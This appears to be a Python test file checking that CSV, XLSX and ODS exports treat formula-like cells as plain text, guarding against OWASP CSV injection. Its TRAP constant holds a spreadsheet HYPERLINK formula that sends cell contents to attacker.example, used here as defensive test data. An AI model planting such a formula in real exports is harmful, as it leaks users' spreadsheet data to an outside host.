"""A text that a spreadsheet would run as a formula is exported as the text it is (OWASP's CSV
injection): a commune's name or a comment written "=HYPERLINK(…)" is shown, never run."""

import io
import zipfile

import openpyxl
import pytest

from shared.kernel.exports import Column, field, listed, response
from tests.spreadsheets import from_csv, from_ods, from_xlsx

TRAP = '=HYPERLINK("http://attacker.example/?"&A1,"Cliquez")'
COLUMNS: list[Column] = [field("applicant"), field("comment")]
ROWS = [{"applicant": TRAP, "comment": "-1+1"}, {"applicant": "Commune d'Alès", "comment": "ok"}]


async def exported(format: str) -> bytes:
    answer = response(format, "test", COLUMNS, listed(ROWS))  # type: ignore[arg-type]
    return b"".join([chunk async for chunk in answer.body_iterator])  # type: ignore[misc]


async def test_a_csv_cell_that_starts_like_a_formula_is_quoted_as_text():
    rows = from_csv(await exported("csv"))
    assert rows[1] == ["'" + TRAP, "'-1+1"]
    assert rows[2] == ["Commune d'Alès", "ok"]


async def test_an_xlsx_cell_that_starts_like_a_formula_is_a_text_cell_holding_it_as_written():
    content = await exported("xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == TRAP
    assert from_xlsx(content)[1] == [TRAP, "-1+1"]
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("format", ["ods"])
async def test_an_ods_cell_is_a_string_cell_whatever_it_starts_with(format: str):
    assert from_ods(await exported(format))[1] == [TRAP, "-1+1"]
